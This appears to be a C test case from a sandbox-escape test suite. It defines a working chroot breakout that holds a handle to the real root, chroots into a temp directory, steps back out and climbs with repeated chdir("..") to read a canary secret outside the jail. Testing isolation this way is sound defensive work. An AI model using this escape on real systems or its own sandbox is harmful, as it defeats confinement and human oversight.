/* Another root, and a way up from a directory that is outside of it. */
#include "../attack.h"

#include <fcntl.h>

ATTACK(FILES, "root", .gain = "all of the host's files, past the root", .source = "chroot(2)",
       .works = AS_ROOT)
{
	char dir[] = "/tmp/attack-XXXXXX";
	int up = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long r;

	if (!mkdtemp(dir))
		return NOT_HERE;
	r = chroot(dir);
	if (r < 0 || fchdir(up) < 0) {
		int error = errno;

		rmdir(dir);
		return denied(error);
	}
	for (int i = 0; i < 64; i++)
		r = chdir("..");
	rmdir(dir + 1);
	return read_canary(open(target("secret") + 1, O_RDONLY | O_CLOEXEC));
}
